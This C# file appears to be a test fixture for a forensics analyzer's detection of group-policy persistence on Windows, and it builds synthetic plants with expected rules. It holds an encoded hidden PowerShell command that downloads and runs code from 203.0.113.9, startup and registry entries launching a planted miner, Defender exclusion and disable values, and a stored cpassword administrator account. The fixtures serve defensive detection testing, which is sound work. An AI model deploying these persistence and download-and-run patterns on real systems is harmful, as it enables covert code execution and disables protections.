using System.Buffers.Binary;
using System.Text;
using Forensics.Analyzer.Risk;
using static Forensics.Analyzer.Tests.Detection.WindowsStockHives;

namespace Forensics.Analyzer.Tests.Detection;

/// <summary>Scripts, preferences and values of group policies.</summary>
internal static class WindowsPolicyPlants
{
    private const string Scripts = "/Windows/System32/GroupPolicy/Machine/Scripts/scripts.ini";
    private const string PowerShellScripts = "/Windows/System32/GroupPolicy/User/Scripts/psscripts.ini";
    private const string Tasks = "/ProgramData/Microsoft/Group Policy/History/{31B2F340-016D-11D2-945F-00C04FB984F9}/Machine/Preferences/ScheduledTasks/ScheduledTasks.xml";
    private const string Groups = "/ProgramData/Microsoft/Group Policy/History/{31B2F340-016D-11D2-945F-00C04FB984F9}/Machine/Preferences/Groups/Groups.xml";
    private const string OfDomain = "/Windows/SYSVOL/domain/Policies/{31B2F340-016D-11D2-945F-00C04FB984F9}/MACHINE/Preferences/ScheduledTasks/ScheduledTasks.xml";
    private const string Values = "/Windows/System32/GroupPolicy/Machine/Registry.pol";
    private const string Vendor = "/ProgramData/Vendor/host.exe";

    private static readonly PlantedPe s_miner = WindowsTaskPlants.Miner;
    private static readonly string s_encoded = "-nop -w hidden -enc " + WindowsTaskPlants.Encoded("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/g')");

    public static IReadOnlyList<Plant> All { get; } =
    [
        .. new Plant[]
        {
            new("W-GPO", "loud-encoded-startup-script", PlantKind.Loud, tree => Ini(tree, Scripts, "[Startup]\r\n0CmdLine=powershell.exe\r\n0Parameters=" + s_encoded + "\r\n")) { Rule = "powershell-download-run" },
            new("W-GPO", "loud-immediate-task", PlantKind.Loud, tree => tree.File(Tasks, Immediate("powershell.exe", s_encoded))) { Rule = "powershell-download-run" },
            new("W-GPO", "quiet-interpreter", PlantKind.Quiet, tree => Ini(tree, Scripts, "[Startup]\r\n0CmdLine=wscript.exe\r\n0Parameters=C:\\ProgramData\\Vendor\\inventory.vbs\r\n").File("/ProgramData/Vendor/inventory.vbs", "WScript.Quit 0\r\n")) { Rule = "script-interpreter", AtLeast = Severity.Medium, Entries = [Scripts] },
            new("W-GPO", "quiet-miner-at-startup", PlantKind.Quiet, tree => Ini(tree.Pe(Vendor, s_miner), Scripts, "[Startup]\r\n0CmdLine=C:\\ProgramData\\Vendor\\host.exe\r\n0Parameters=/s\r\n")) { AtLeast = Severity.Critical, Entries = [Scripts] },
            new("W-GPO", "quiet-script-of-the-policy-starts-miner", PlantKind.Quiet, tree => Ini(tree.Pe(Vendor, s_miner), PowerShellScripts, "[Logon]\r\n0CmdLine=map.ps1\r\n0Parameters=\r\n").File("/Windows/System32/GroupPolicy/User/Scripts/Logon/map.ps1", "Start-Process -FilePath 'C:\\ProgramData\\Vendor\\host.exe'\r\n")) { AtLeast = Severity.Critical, Entries = [PowerShellScripts] },
            new("W-GPO", "quiet-task-of-the-domain", PlantKind.Quiet, tree => tree.Pe(Vendor, s_miner).File(OfDomain, Immediate(@"C:\ProgramData\Vendor\host.exe", "/s"))) { AtLeast = Severity.Critical, Entries = [OfDomain] },
            new("W-GPO", "dormant-task-of-the-domain", PlantKind.Dormant, tree => tree.Pe(Vendor, s_miner).File(OfDomain, Immediate(@"C:\ProgramData\Vendor\host.exe", "/s", isOff: true))) { TwinOf = "quiet-task-of-the-domain" },
            new("W-GPO", "quiet-task-interpreter", PlantKind.Quiet, tree => tree.File(Tasks, Immediate("wscript.exe", @"C:\ProgramData\Vendor\run.vbs")).File("/ProgramData/Vendor/run.vbs", "WScript.Quit 0\r\n")) { Rule = "task-interpreter", AtLeast = Severity.Medium, Entries = [Tasks] },
            new("W-GPO", "quiet-miner-in-values", PlantKind.Quiet, tree => Policy(tree.Pe(Vendor, s_miner), (@"Software\Microsoft\Windows\CurrentVersion\Policies\Explorer\Run", "1", 1, @"C:\ProgramData\Vendor\host.exe"))) { AtLeast = Severity.Critical, Entries = [Values] },
            new("W-GPO", "quiet-value-interpreter", PlantKind.Quiet, tree => Policy(tree.File("/ProgramData/Vendor/run.vbs", "WScript.Quit 0\r\n"), (@"Software\Microsoft\Windows\CurrentVersion\Policies\Explorer\Run", "1", 1, @"wscript.exe C:\ProgramData\Vendor\run.vbs"))) { Rule = "value-interpreter", AtLeast = Severity.Medium, Entries = [Values] },
            new("W-GPO", "quiet-exclusion", PlantKind.Quiet, tree => Policy(tree, (@"Software\Policies\Microsoft\Windows Defender\Exclusions\Paths", @"C:\Users\Public", 1, "0"))) { Rule = "weakens-protection", AtLeast = Severity.Medium, Entries = [Values] },
            new("W-GPO", "loud-password", PlantKind.Loud, tree => tree.File(Groups, Account("j1Uyj3Vx8TY9LtLZil2uAuZkFQA/4latT76ZwgdHdhw"))) { Rule = "password", AtLeast = Severity.Low },
            new("W-GPO", "quiet-local-script", PlantKind.Quiet, tree => Ini(tree, Scripts, "[Shutdown]\r\n0CmdLine=bye.bat\r\n0Parameters=\r\n").File("/Windows/System32/GroupPolicy/Machine/Scripts/Shutdown/bye.bat", "@echo off\r\n")) { Rule = "local-script", AtLeast = Severity.Low, Entries = [Scripts] },
            new("W-GPO", "quiet-miner-in-the-registry", PlantKind.Quiet, tree => Hives(tree.Pe(Vendor, s_miner), software: hive => hive.Key(Cv + @"Group Policy\Scripts\Startup\0\0").Text("Script", @"C:\ProgramData\Vendor\host.exe").Text("Parameters", ""))) { AtLeast = Severity.Critical, Entries = [Software] },
            new("W-GPO", "benign-mapping-of-drives", PlantKind.Benign, tree => Ini(tree, PowerShellScripts, "[Logon]\r\n0CmdLine=map.ps1\r\n0Parameters=\r\n").File("/Windows/System32/GroupPolicy/User/Scripts/Logon/map.ps1", "New-SmbMapping -LocalPath 'Z:' -RemotePath '\\\\fs01\\share'\r\n")),
            new("W-GPO", "benign-scripts-of-the-domain", PlantKind.Benign, tree => Hives(tree, software: hive => hive.Key(Cv + @"Group Policy\Scripts\Startup\0\0").Text("Script", @"\\corp.example\SysVol\corp.example\Policies\{1}\Machine\Scripts\Startup\install.cmd").Text("Parameters", "/quiet"))
                .File(Tasks, Immediate("powershell.exe", @"-ExecutionPolicy Bypass -File \\corp.example\NETLOGON\inventory.ps1"))),
            new("W-GPO", "benign-installed-program", PlantKind.Benign, tree => tree.Pe("/Program Files/Vendor/agent.exe", new PlantedPe { Seed = "agent", IsSigned = true }).File(OfDomain, Immediate(@"C:\Program Files\Vendor\agent.exe", "/update")).File(Groups, Account(""))),
            new("W-GPO", "benign-values", PlantKind.Benign, tree => Policy(tree, (@"Software\Policies\Microsoft\Windows Defender\Exclusions\Paths", @"D:\SQL\Data", 1, "0"), (@"Software\Policies\Microsoft\Windows\PowerShell\ScriptBlockLogging", "EnableScriptBlockLogging", 4, "1"), (@"Software\Policies\Microsoft\Windows Defender", "DisableAntiSpyware", 4, "1"))),
        }.Select(plant => plant with { Host = PlantHost.Windows }),
    ];

    private static PlantTree Ini(PlantTree tree, string path, string text) => tree.File(path, [0xFF, 0xFE, .. Encoding.Unicode.GetBytes(text)]);

    private static string Immediate(string command, string arguments, bool isOff = false) => $$"""
        <?xml version="1.0" encoding="utf-8"?>
        <ScheduledTasks clsid="{CC63F200-7309-4ba0-B154-A71CD118DBCC}"><ImmediateTaskV2 clsid="{9756B581-76EC-4169-9AFC-0CA8D43ADB5F}" name="Update" image="0"{{(isOff ? " disabled=\"1\"" : "")}}>
        <Properties action="C" name="Update" runAs="NT AUTHORITY\System" logonType="S4U"><Task version="1.3"><Settings><Enabled>true</Enabled></Settings>
        <Actions Context="Author"><Exec><Command>{{command}}</Command><Arguments>{{arguments}}</Arguments></Exec></Actions></Task></Properties></ImmediateTaskV2></ScheduledTasks>
        """;

    private static string Account(string password) => $$"""
        <?xml version="1.0" encoding="utf-8"?>
        <Groups clsid="{3125E937-EB16-4b4c-9934-544FC6D24D26}"><User clsid="{DF5F1855-51E5-4d24-8B1A-D9BDE98BA1D1}" name="Administrator"><Properties action="U" newName="" cpassword="{{password}}" userName="Administrator"/></User></Groups>
        """;

    private static PlantTree Policy(PlantTree tree, params (string Key, string Name, uint Type, string Data)[] values) => tree.File(Values, [.. "PReg"u8, 1, 0, 0, 0, .. values.SelectMany(Value)]);

    private static byte[] Value((string Key, string Name, uint Type, string Data) value)
    {
        byte[] data = value.Type == 4 ? U32(uint.Parse(value.Data, System.Globalization.CultureInfo.InvariantCulture)) : Encoding.Unicode.GetBytes(value.Data + "\0");
        return [.. Encoding.Unicode.GetBytes($"[{value.Key}\0;{value.Name}\0;"), .. U32(value.Type), .. Encoding.Unicode.GetBytes(";"), .. U32((uint)data.Length), .. Encoding.Unicode.GetBytes(";"), .. data, .. Encoding.Unicode.GetBytes("]")];
    }

    private static byte[] U32(uint number)
    {
        var bytes = new byte[4];
        BinaryPrimitives.WriteUInt32LittleEndian(bytes, number);
        return bytes;
    }
}
